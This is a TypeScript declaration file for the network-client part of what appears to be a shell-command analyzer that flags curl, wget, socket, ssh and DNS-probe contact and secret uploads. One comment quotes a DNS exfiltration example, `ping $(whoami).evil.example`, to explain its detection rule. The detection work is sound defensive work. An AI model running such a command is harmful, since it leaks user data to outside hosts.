import type { Analysis } from "../analysis.js";
import { type StdinSource, type Val } from "../values.js";
import { type Io } from "./registry.js";
/** Network clients: curl, wget, raw sockets, ssh and friends, DNS probes. */
/** A URL as a client reads a word without a scheme (`curl 10.0.0.1/x` is `http://10.0.0.1/x`). */
export declare function asUrl(raw: string): string;
/**
 * DNS and ICMP probes only read, but the name they look up leaves the machine: a host outside the
 * allowlist, or one built at run time (`ping $(whoami).evil.example`), is a network contact like curl's.
 */
export declare function lookupTool(args: Val[], a: Analysis, io: Io): StdinSource | null;
export declare function uploadSecret(v: Val, a: Analysis): 0 | 1 | 2;
export declare const CURL_BODY_OPTIONS: string[];
export declare function rawNetwork(args: Val[], a: Analysis, io: Io): StdinSource | null;
export declare function remoteAccess(args: Val[], a: Analysis, io: Io): null;
